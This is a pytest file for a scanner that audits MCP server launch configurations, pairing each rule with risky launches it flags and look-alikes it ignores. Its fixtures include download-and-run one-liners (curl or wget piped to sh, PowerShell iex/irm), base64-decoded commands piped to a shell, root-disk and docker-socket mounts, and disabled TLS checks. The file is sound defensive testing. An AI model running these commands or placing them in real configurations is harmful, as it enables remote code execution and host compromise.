"""Every rule, with at least as many launches it leaves alone as launches it names."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from discovery.model import Confidence, Form, Identity, Kind, Pin, Secret, Sighting, Surface
from inventory.findings.find import RULES, find_findings
from inventory.findings.rule import OWASP
from inventory.model import Note, Presence, Seen, Server, Severity
from tests.inventory.findings import cloud_cases, live_cases
from tests.inventory.live import running

NOW = datetime(2026, 11, 21, tzinfo=UTC)
NPM = Identity(kind=Kind.NPM, purl="pkg:npm/acme-mcp@1.0.0", version="1.0.0", pin=Pin.EXACT, launcher="npx")
OCI = Identity(
    kind=Kind.OCI, purl="pkg:oci/x@sha256:0", version="sha256:0", pin=Pin.DIGEST, launcher="docker"
)
LOCAL = Identity(kind=Kind.LOCAL, ref="file:~/src/server.py", launcher="python")
REMOTE = Identity(kind=Kind.REMOTE, url="https://mcp.acme.example/mcp")
BASE = Sighting(
    identity=NPM,
    surface=Surface.CONFIG,
    finder="configs",
    source="/home/dana/.cursor/mcp.json",
    root="/home/dana",
    seen_at=NOW,
    scope="user",
    user="dana",
    command="npx",
    args=("-y", "acme-mcp@1.0.0"),
)


def run(*args: str, command: str = "npx", identity: Identity = NPM) -> Sighting:
    return replace(BASE, command=command, args=args, identity=identity)


def docker(*options: str) -> Sighting:
    return run("run", "-i", "--rm", *options, "mcp/x@sha256:0", command="docker", identity=OCI)


def shell(code: str, command: str = "bash") -> Sighting:
    identity = Identity(kind=Kind.INLINE, ref=f"inline:{command}", launcher=command)
    return run("-c", code, command=command, identity=identity)


def remote(url: str) -> Sighting:
    return replace(BASE, command=None, args=(), url=url, identity=Identity(kind=Kind.REMOTE, url=url))


def secret(where: str, form: Form = Form.PLAIN) -> Sighting:
    return replace(BASE, secrets=(Secret(where=where, form=form),))


def pinned(pin: Pin, version: str | None = None, kind: Kind = Kind.NPM, launcher: str = "npx") -> Sighting:
    identity = Identity(kind=kind, purl=f"pkg:{kind}/x", version=version, pin=pin, launcher=launcher)
    return replace(BASE, identity=identity)


def via(*purls: str) -> Sighting:
    return replace(BASE, identity=replace(REMOTE, via=purls))


def wrapped(*wrapper: str) -> Sighting:
    return replace(BASE, identity=replace(NPM, wrapper=wrapper))


def approving(*tools: str) -> Sighting:
    return replace(BASE, auto_approve=tools)


def facts(scope: str = "user", surface: Surface = Surface.CONFIG, **values: str) -> Sighting:
    return replace(BASE, facts=values, scope=scope, surface=surface)


def fetched(ref: str, kind: Kind = Kind.URL_ARCHIVE, **more: str) -> Sighting:
    return replace(BASE, identity=Identity(kind=kind, ref=ref, launcher="npx", version=more.get("version")))


def seen_at(surface: Surface, sighting: Sighting) -> Sighting:
    return replace(sighting, surface=surface)


def project(**changes: object) -> Sighting:
    return replace(BASE, scope="project", source="/home/dana/src/crm/.mcp.json", **changes)  # type: ignore[arg-type]


CASES: dict[str, tuple[list[Sighting], list[Sighting]]] = {
    "MCP01-plain-secret": (
        [secret("env:API_KEY"), secret("header:Authorization"), secret("args:--token")],
        [
            BASE,
            secret("env:API_KEY", Form.REFERENCE),
            secret("env:API_KEY", Form.PROMPT),
            secret("header:Authorization", Form.REFERENCE),
            replace(BASE, env_names=("API_KEY",)),
            secret("query:token"),
            seen_at(Surface.PROCESS, secret("args:--token")),
            seen_at(Surface.LISTENER, secret("args:--token")),
            seen_at(Surface.LOG, secret("args:--token")),
        ],
    ),
    "MCP01-secret-on-command-line": (
        [
            seen_at(Surface.PROCESS, secret("args:--token")),
            seen_at(Surface.LISTENER, secret("args:1")),
        ],
        [
            secret("args:--token"),
            seen_at(Surface.PROCESS, BASE),
            seen_at(Surface.PROCESS, secret("query:token")),
            seen_at(Surface.PROCESS, secret("args:--token", Form.REFERENCE)),
            seen_at(Surface.LOG, secret("args:--token")),
            replace(seen_at(Surface.PROCESS, BASE), facts={"login": "4711", "score": "75"}),
        ],
    ),
    "MCP01-secret-in-log": (
        [seen_at(Surface.LOG, secret("args:--token"))],
        [
            secret("args:--token"),
            seen_at(Surface.LOG, BASE),
            seen_at(Surface.PROCESS, secret("args:--token")),
        ],
    ),
    "MCP01-secret-in-address": (
        [secret("query:api_key"), secret("userinfo"), secret("path")],
        [
            BASE,
            secret("query:api_key", Form.REFERENCE),
            secret("env:API_KEY"),
            remote("https://x.example/?a=b"),
        ],
    ),
    "MCP02-whole-disk": (
        [
            run("-y", "@modelcontextprotocol/server-filesystem", "/"),
            run("-y", "server-filesystem", "C:\\"),
            run("-y", "server-filesystem", "/srv/data", "d:/"),
            run("-y", "server-filesystem", "file:///"),
            run("--root", "/", command="files-mcp"),
            run("--allowed-dir=/", command="files-mcp"),
            run("cmd", "/c", "npx -y server-filesystem /", identity=replace(NPM, wrapper=("cmd",))),
            docker("-v", "/:/host"),
            docker("-v/:/host:ro"),
            docker("--volume=C:\\:/c"),
            docker("--mount", "type=bind,src=/,dst=/host"),
            docker("--mount=type=bind,source=/,target=/host,readonly"),
        ],
        [
            BASE,
            run("-y", "server-filesystem", "/srv/data"),
            run("-y", "server-filesystem", "C:\\Users\\dana\\src"),
            run("-y", "server-filesystem", "."),
            run("-y", "acme-mcp", "--path", "/"),
            run("-y", "acme-mcp", "--base-path=/"),
            run("-y", "acme-mcp", "--delimiter", "/"),
            run("-y", "acme-mcp", "https://x.example/"),
            docker("-v", "/srv/data:/data"),
            docker("-v", "/srv:/"),
            docker("-v", "data:/"),
            docker("--mount", "type=bind,src=/srv,dst=/"),
            docker("--mount", "type=tmpfs,dst=/"),
            docker("-w", "/"),
            run("run", "--rm", "mcp/filesystem@sha256:0", "/", command="docker", identity=OCI),
            run("run", "mcp/filesystem@sha256:0", "/", command="docker", identity=OCI),
            shell("find / -name mcp"),
        ],
    ),
    "MCP02-whole-home": (
        [
            run("-y", "server-filesystem", "~"),
            run("-y", "server-filesystem", "~/"),
            run("-y", "server-filesystem", "$HOME"),
            run("-y", "server-filesystem", "${userHome}"),
            run("-y", "server-filesystem", "%USERPROFILE%"),
            run("-y", "server-filesystem", "/home/dana"),
            run("-y", "server-filesystem", "/Users"),
            run("-y", "server-filesystem", "C:\\Users\\dana"),
            docker("-v", "/home/dana:/work"),
            docker("--mount", "type=bind,src=/home/dana,dst=/work"),
        ],
        [
            BASE,
            run("-y", "server-filesystem", "~/Desktop"),
            run("-y", "server-filesystem", "$HOME/src"),
            run("-y", "server-filesystem", "/home/dana/src"),
            run("-y", "server-filesystem", "/Users/dana/src/"),
            run("-y", "server-filesystem", "C:\\Users\\dana\\src"),
            run("-y", "acme-mcp", "--author", "~"),
            docker("-v", "/srv:/home/dana"),
            docker("-e", "HOME=/root"),
            docker("-w", "/root"),
            run("run", "mcp/x@sha256:0", "/root", command="docker", identity=OCI),
        ],
    ),
    "MCP02-container-socket": (
        [
            docker("-v", "/var/run/docker.sock:/var/run/docker.sock"),
            docker("--mount", "type=bind,src=/run/docker.sock,dst=/x"),
            docker("-v", "/run/user/1000/podman/podman.sock:/run/podman.sock"),
        ],
        [
            BASE,
            docker("-v", "/srv/docker:/data"),
            docker("-v", "/var/run/crm.sock:/crm.sock"),
            docker("-e", "DOCKER_HOST=tcp://x"),
            run("-y", "acme-mcp", "/var/run/docker.sock.txt"),
        ],
    ),
    "MCP02-privileged-container": (
        [
            docker("--privileged"),
            docker("--cap-add", "SYS_ADMIN"),
            docker("--cap-add=ALL"),
            docker("--security-opt", "seccomp=unconfined"),
            docker("--pid=host"),
        ],
        [
            docker(),
            docker("--privileged=false"),
            docker("--cap-add", "NET_BIND_SERVICE"),
            docker("--cap-drop", "ALL"),
            docker("--security-opt", "no-new-privileges"),
            docker("--name", "--privileged"),
            run("run", "mcp/x@sha256:0", "--privileged", command="docker", identity=OCI),
            run("-y", "acme-mcp", "--privileged"),
        ],
    ),
    "MCP02-host-network": (
        [docker("--network", "host"), docker("--net=host"), docker("-it", "--network=host")],
        [
            docker("--network", "none"),
            docker("--network=bridge"),
            docker("--add-host", "host:1.2.3.4"),
            docker("-h", "host"),
            run("run", "mcp/x@sha256:0", "--network", "host", command="docker", identity=OCI),
            run("-y", "acme-mcp", "--network", "host"),
        ],
    ),
    "MCP02-raised-rights": (
        [run("npx", "-y", "acme-mcp", command="/usr/bin/sudo"), wrapped("sudo"), wrapped("env", "doas")],
        [BASE, wrapped("sh"), wrapped("env"), run("-y", "sudo-mcp"), run("--", "sudo")],
    ),
    "MCP02-guards-off": (
        [
            run("-y", "acme-mcp", "--dangerously-skip-permissions"),
            run("--dangerously-allow-all=true", command="acme"),
        ],
        [
            BASE,
            run("-y", "acme-mcp", "--dangerously-skip-permissions=false"),
            run("-y", "acme-mcp", "--danger-zone"),
            run("-y", "acme-mcp", "dangerously-named"),
        ],
    ),
    "MCP02-approve-every-tool": (
        [
            approving("*"),
            approving("read", "*"),
            approving("true"),
            approving("mcp__crm__*"),
            approving("crm:*"),
        ],
        [BASE, approving("read_file"), approving("read_*"), approving("all_rows"), approving("true_north")],
    ),
    "MCP02-approve-tools": (
        [approving("read_file"), approving("a", "b")],
        [BASE, approving("*"), approving("read_file", "*"), replace(BASE, enabled=True)],
    ),
    "MCP04-unpinned-package": (
        [
            pinned(Pin.FLOATING),
            pinned(Pin.TAG, "latest"),
            pinned(Pin.RANGE, "^1.0.0"),
            pinned(Pin.FLOATING, kind=Kind.PYPI, launcher="uvx"),
        ],
        [
            BASE,
            pinned(Pin.EXACT, "1.0.0"),
            pinned(Pin.FLOATING, launcher="node"),
            pinned(Pin.FLOATING, kind=Kind.PYPI, launcher="python"),
            pinned(Pin.FLOATING, kind=Kind.LOCAL, launcher="uv"),
            remote("https://mcp.acme.example/mcp"),
        ],
    ),
    "MCP04-unpinned-bridge": (
        [
            via("pkg:npm/mcp-remote"),
            via("pkg:npm/%40smithery/cli"),
            via("pkg:oci/node?repository_url=x%2Fnode"),
        ],
        [
            BASE,
            via("pkg:npm/mcp-remote@0.1.16"),
            via("pkg:npm/%40smithery/cli@1.0.0"),
            via("pkg:oci/node?repository_url=docker.io%2Flibrary%2Fnode&tag=22"),
        ],
    ),
    "MCP04-mutable-image": (
        [
            pinned(Pin.FLOATING, kind=Kind.OCI, launcher="docker"),
            pinned(Pin.TAG, "latest", kind=Kind.OCI, launcher="docker"),
            pinned(Pin.TAG, "1.0", kind=Kind.OCI, launcher="podman"),
        ],
        [docker(), pinned(Pin.DIGEST, "sha256:0", kind=Kind.OCI), pinned(Pin.TAG, "latest"), BASE],
    ),
    "MCP04-install-from-git": (
        [pinned(Pin.REF, "main", kind=Kind.GIT), pinned(Pin.FLOATING, kind=Kind.GIT)],
        [pinned(Pin.COMMIT, "3f2c", kind=Kind.GIT), pinned(Pin.FLOATING, kind=Kind.LOCAL), BASE],
    ),
    "MCP04-install-from-url": (
        [
            fetched("https://files.acme.example/x.tgz"),
            fetched("http://files.acme.example/x.tgz"),
            fetched("https://deno.land/x/acme@v1/mod.ts", Kind.URL_SCRIPT, version="v1"),
        ],
        [
            BASE,
            remote("https://mcp.acme.example/x.tgz"),
            replace(
                BASE, identity=Identity(kind=Kind.URL_ARCHIVE, ref="https://x.example/x.tgz", pin=Pin.DIGEST)
            ),
            run("-y", "acme-mcp@1.0.0", "https://files.acme.example/data.tgz"),
        ],
    ),
    "MCP04-mixed-index": (
        [
            run("--extra-index-url", "https://pypi.corp.example/simple", "corp-mcp", command="uvx"),
            run("--extra-index-url=https://pypi.corp.example/simple", "corp-mcp", command="uvx"),
            run(
                "run",
                "--pip-args=--extra-index-url=https://pypi.corp.example/simple",
                "corp-mcp",
                command="pipx",
            ),
            replace(BASE, env_names=("PIP_EXTRA_INDEX_URL",)),
        ],
        [
            BASE,
            run("--index-url", "https://pypi.corp.example/simple", "corp-mcp", command="uvx"),
            run("--default-index=https://pypi.corp.example/simple", "corp-mcp", command="uvx"),
            run("--extra-index", "x", command="python", identity=LOCAL),
            run("s.py", "--extra-index-url", "https://pypi.example", command="python", identity=LOCAL),
            replace(BASE, env_names=("PIP_INDEX_URL",)),
        ],
    ),
    "MCP04-plain-index": (
        [
            run("--index-url", "http://pypi.corp.example/simple", "corp-mcp", command="uvx"),
            run("-y", "--registry=http://npm.corp.example", "corp-mcp"),
        ],
        [
            BASE,
            run("-y", "--registry=https://npm.corp.example", "corp-mcp"),
            run("-y", "--registry=http://localhost:4873", "corp-mcp"),
            run("-y", "acme-mcp", "--url", "http://x.example"),
        ],
    ),
    "MCP05-download-and-run": (
        [
            shell("curl -fsSL https://x.example/i.sh | sh"),
            shell("wget -qO- https://x.example/i.sh | sudo bash"),
            shell("bash <(curl -s https://x.example/i)"),
            shell("import urllib.request as u;exec(u.urlopen('https://x.example/a').read())", "python"),
            shell("iex (irm https://x.example/i.ps1)", "powershell"),
            shell("irm https://x.example/i.ps1 | iex", "powershell"),
        ],
        [
            BASE,
            shell("curl -fsSL https://x.example/i.json"),
            shell("curl -fsSL https://x.example/i.json | jq .a"),
            shell("cat setup.sh | sh"),
            shell("npx -y acme-mcp; echo done"),
            shell("print(urlopen('https://x.example').read())", "python"),
            run("-y", "acme-mcp", "--hint", "never curl x | sh"),
            run("server.py", "curl x | sh", command="python", identity=LOCAL),
        ],
    ),
    "MCP05-encoded-command": (
        [
            run("-EncodedCommand", "bgBwAHgA", command="powershell.exe"),
            run("-NoProfile", "-enc", "bgBwAHgA", command="pwsh"),
            shell("echo bnB4 | base64 -d | sh"),
        ],
        [
            BASE,
            run("-ExecutionPolicy", "Bypass", "-File", "x.ps1", command="powershell"),
            run("-Encoding", "utf8", command="acme"),
            shell("base64 -d token.b64 > token"),
            run("-e", "console.log(1)", command="node", identity=Identity(kind=Kind.INLINE, launcher="node")),
        ],
    ),
    "MCP05-inline-code": (
        [shell("npx -y acme-mcp; rm x"), shell("require('x')", "node"), shell("import x", "python")],
        [
            BASE,
            shell("curl https://x.example/i | sh"),
            shell("echo bnB4 | base64 -d | sh"),
            wrapped("sh"),
            run("server.py", command="python", identity=LOCAL),
        ],
    ),
    "MCP05-headers-helper": (
        [facts("project", headers_helper="./token.sh"), facts("workspace", headers_helper="op read x")],
        [
            BASE,
            facts("user", headers_helper="./token.sh"),
            facts("project"),
            facts("managed", headers_helper="x"),
        ],
    ),
    "MCP07-plain-http": (
        [
            remote("http://mcp.acme.example/mcp"),
            remote("http://10.0.0.4:8000/mcp"),
            remote("http://crm-mcp:8080/sse"),
            remote("ws://mcp.acme.example/"),
        ],
        [
            remote("https://mcp.acme.example/mcp"),
            remote("http://localhost:3000/sse"),
            remote("http://127.0.0.1:3000/sse"),
            remote("http://127.8.0.1:3000/sse"),
            remote("http://[::1]:3000/sse"),
            remote("http://host.docker.internal:3845/mcp"),
            remote("http://app.localhost/mcp"),
            remote("http://{host}/mcp"),
            remote("http://[bad/mcp"),
            BASE,
        ],
    ),
    "MCP07-checks-off": (
        [
            run("-y", "acme-mcp", "--insecure"),
            run("-y", "acme-mcp", "--no-verify-ssl"),
            run("-y", "acme-mcp", "--insecure-skip-tls-verify"),
            run("-y", "acme-mcp", "--verify-ssl=false"),
            run("-y", "acme-mcp", "--verify-ssl", "false"),
            run("NODE_TLS_REJECT_UNAUTHORIZED=0", "npx", "acme-mcp", command="env"),
            docker("-e", "NODE_TLS_REJECT_UNAUTHORIZED=0"),
            run("--allow-insecure-host", "pypi.corp.example", "corp-mcp", command="uvx"),
            docker("-e", "JIRA_SSL_VERIFY=false"),
            run("-c", "GIT_SSL_NO_VERIFY=1 npx acme-mcp", command="bash"),
            shell("curl -fsSLk https://acme.example/x.json | acme-mcp"),
            facts(tls="off"),
            facts(tls="off", tls_by="ES_SSL_SKIP_VERIFY"),
            facts(tls="unknown", tls_by="NODE_TLS_REJECT_UNAUTHORIZED"),
        ],
        [
            BASE,
            run("-y", "acme-mcp", "--insecure=false"),
            run("-y", "acme-mcp", "--insecure", "false"),
            run("-y", "acme-mcp", "--verify-ssl=true"),
            run("-y", "acme-mcp", "--verify-ssl"),
            run("-y", "acme-mcp", "--secure"),
            run("-y", "insecure-mcp"),
            run("NODE_TLS_REJECT_UNAUTHORIZED=1", "npx", "acme-mcp", command="env"),
            run("--allow-insecure-host", "localhost", "corp-mcp", command="uvx"),
            replace(BASE, env_names=("NODE_EXTRA_CA_CERTS",)),
            replace(BASE, env_names=("NODE_TLS_REJECT_UNAUTHORIZED",)),
            docker("-e", "JIRA_SSL_VERIFY=true"),
            docker("-e", "JIRA_SSL_VERIFY"),
            run("-y", "acme-mcp", "-k", "key.pem"),
            shell("curl -fsSL https://acme.example/x.json | acme-mcp -k"),
            shell("curl -o key -F k=1 https://acme.example/x.json"),
            facts(tls="on"),
        ],
    ),
    "MCP05-writable-config": (
        [facts(mode="0o666"), facts(mode="0o777"), facts(mode="0o602")],
        [BASE, facts(mode="0o600"), facts(mode="0o664"), facts(mode="unknown"), facts(script_mode="0o666")],
    ),
    "MCP04-writable-script": (
        [facts(script_mode="0o777"), facts(script_mode="0o666", surface=Surface.PROCESS)],
        [BASE, facts(script_mode="0o755"), facts(script_mode="0o775"), facts(mode="0o777")],
    ),
    "MCP05-foreign-config": (
        [facts(owner="mallory"), facts("project", owner="CORP\\mallory")],
        [
            BASE,
            facts(owner="dana"),
            facts(owner="CORP\\Dana"),
            facts(owner="root"),
            facts(owner="0"),
            facts(owner="1001"),
            facts("managed", owner="mdm"),
            facts(owner="mallory", surface=Surface.PROCESS),
            replace(facts(owner="mallory"), user=None),
        ],
    ),
    "MCP05-project-autostart": (
        [project(enabled=True), project(auto_approve=("read",))],
        [
            BASE,
            replace(BASE, enabled=True),
            project(),
            project(enabled=False),
            project(enabled=True, facts={"effective": "no"}),
            project(enabled=True, command=None),
            project(enabled=True, confidence=Confidence.LOW),
        ],
    ),
}
CASES |= live_cases.CASES | cloud_cases.CASES
SHOWN = [(rule, it) for rule, (named, _) in CASES.items() for it in named]
QUIET = [(rule, it) for rule, (_, left) in CASES.items() for it in left]


def server(*sightings: Sighting) -> Server:
    seen = tuple(Seen(sighting=it, first_seen=NOW, last_seen=NOW) for it in sightings)
    return Server(
        id="1",
        key="k",
        identity=sightings[0].identity,
        name="crm",
        names=("crm",),
        transport=None,
        presence=(Presence.CONFIGURED,),
        seen=seen,
        first_seen=NOW,
        last_seen=NOW,
    )


def ids(*sightings: Sighting) -> list[str]:
    return [finding.id for finding in find_findings(server(*sightings))]


@pytest.mark.parametrize(("rule", "sighting"), SHOWN)
def test_a_rule_names_what_it_is_for(rule: str, sighting: Sighting) -> None:
    assert rule in ids(sighting)


@pytest.mark.parametrize(("rule", "sighting"), QUIET)
def test_a_rule_leaves_what_only_looks_alike_alone(rule: str, sighting: Sighting) -> None:
    assert rule not in ids(sighting)


def test_every_rule_has_cases_and_as_many_against_as_for() -> None:
    assert set(CASES) == {rule.id for rule in RULES if not rule.note}
    assert [rule for rule, (named, left) in CASES.items() if len(left) < len(named)] == []


def test_every_rule_names_an_owasp_category_and_says_what_to_do() -> None:
    assert [rule.id for rule in RULES if rule.owasp not in OWASP or not rule.advice.endswith(".")] == []
    assert len({rule.id for rule in RULES}) == len(RULES)


def test_a_well_kept_server_has_no_findings() -> None:
    assert ids(BASE) == []


GRADES = [
    (pinned(Pin.FLOATING), Severity.LOW),
    (pinned(Pin.RANGE, "^1"), Severity.LOW),
    (pinned(Pin.TAG, "latest"), Severity.MEDIUM),
    (pinned(Pin.TAG, "1.0", kind=Kind.OCI), Severity.LOW),
    (pinned(Pin.FLOATING, kind=Kind.OCI), Severity.MEDIUM),
    (secret("env:API_KEY"), Severity.MEDIUM),
    (replace(secret("env:API_KEY"), facts={"mode": "0o644"}), Severity.HIGH),
    (replace(secret("env:API_KEY"), facts={"mode": "0o640"}), Severity.MEDIUM),
    (replace(secret("env:API_KEY"), scope="project"), Severity.HIGH),
    (remote("http://mcp.acme.example/mcp"), Severity.HIGH),
    (remote("http://10.0.0.4/mcp"), Severity.MEDIUM),
    (replace(remote("http://10.0.0.4/mcp"), header_names=("Authorization",)), Severity.HIGH),
    (facts(tls="unknown", tls_by="NODE_TLS_REJECT_UNAUTHORIZED"), Severity.LOW),
    (facts(tls="off"), Severity.MEDIUM),
    (fetched("http://x.example/x.tgz"), Severity.HIGH),
    (fetched("https://x.example/x.tgz"), Severity.MEDIUM),
    (fetched("https://deno.land/x/a@v1/mod.ts", version="v1"), Severity.LOW),
    (cloud_cases.app(review="2024-01-01"), Severity.MEDIUM),
    (cloud_cases.app("review"), Severity.LOW),
    (cloud_cases.public(auth="none"), Severity.HIGH),
    (cloud_cases.public(), Severity.LOW),
    (cloud_cases.public("auth"), Severity.MEDIUM),
    (cloud_cases.public(auth="optional"), Severity.MEDIUM),
    (cloud_cases.app("approved"), Severity.LOW),
    (cloud_cases.app(approved="false"), Severity.MEDIUM),
    (cloud_cases.app("owner"), Severity.LOW),
    (cloud_cases.app("owner", owner_above="crm@acme.example (resource group rg)"), Severity.INFO),
    (cloud_cases.app("owner", owner_above="unknown"), Severity.LOW),
    (live_cases.wide(auth="none"), Severity.HIGH),
    (live_cases.wide(auth="none", network="402"), Severity.MEDIUM),
    (live_cases.wide(auth="required"), Severity.INFO),
    (live_cases.wide(), Severity.LOW),
    (live_cases.local(host_check="no"), Severity.MEDIUM),
    (live_cases.local(host_check="yes", origin_check="no"), Severity.LOW),
    (running(deleted="yes", exe="/opt/acme/crm-mcp"), Severity.MEDIUM),
    (running(deleted="yes", exe="/usr/bin/python3.11"), Severity.LOW),
]


@pytest.mark.parametrize(("sighting", "severity"), GRADES)
def test_severity_follows_exposure(sighting: Sighting, severity: Severity) -> None:
    assert [finding.severity for finding in find_findings(server(sighting))] == [severity]


def test_a_note_that_is_a_fault_is_a_finding() -> None:
    note = Note(id="running-unconfigured", text="it runs, and nothing names it")
    (found,) = find_findings(server(BASE), [note])
    assert (found.id, found.severity, found.evidence["how"]) == (
        "MCP09-unconfigured",
        Severity.MEDIUM,
        note.text,
    )


def test_a_note_that_is_none_is_no_finding() -> None:
    assert find_findings(server(BASE), [Note(id="shared-endpoint", text="2 clients share it")]) == ()


def test_the_same_fault_at_two_places_is_told_once_with_both() -> None:
    one, other = secret("env:API_KEY"), replace(secret("env:API_KEY"), source="/home/dana/.codex/config.toml")
    findings = find_findings(server(one, other))
    assert [finding.evidence["sources"] for finding in findings] == [
        "/home/dana/.codex/config.toml; /home/dana/.cursor/mcp.json"
    ]


def test_many_places_are_counted_and_not_listed() -> None:
    everywhere = [replace(secret("env:API_KEY"), source=f"/home/u{n}/mcp.json") for n in range(9)]
    assert find_findings(server(*everywhere))[0].evidence["sources"].endswith("/home/u4/mcp.json and 4 more")


def test_a_fault_that_is_gone_is_not_told() -> None:
    gone = Seen(sighting=secret("env:API_KEY"), first_seen=NOW, last_seen=NOW, gone=NOW + timedelta(days=1))
    kept = server(BASE)
    assert find_findings(replace(kept, seen=(*kept.seen, gone))) == ()


def test_findings_come_worst_first_whatever_the_order_of_sightings() -> None:
    sightings = [approving("a"), shell("curl x | sh"), docker("--privileged"), remote("http://10.0.0.4/mcp")]
    found = find_findings(server(*sightings))
    assert [it.severity for it in found] == [Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW]
    assert found == find_findings(server(*reversed(sightings)))


@given(st.text(max_size=30), st.lists(st.text(max_size=30), max_size=6), st.text(max_size=40))
def test_no_launch_breaks_a_rule(command: str, args: list[str], url: str) -> None:
    odd = replace(BASE, command=command, args=tuple(args), url=url, identity=replace(REMOTE, url=url))
    for kind in (Kind.INLINE, Kind.OCI, Kind.REMOTE):
        assert ids(replace(odd, identity=replace(odd.identity, kind=kind))) is not None


@given(
    st.lists(
        st.sampled_from(["docker", "run", "-v", "-it", "--mount", "=", "/", "-", "--", "sh"]), max_size=12
    )
)
def test_no_half_written_container_launch_breaks_a_rule(args: list[str]) -> None:
    assert ids(run(*args, command="docker", identity=OCI)) is not None
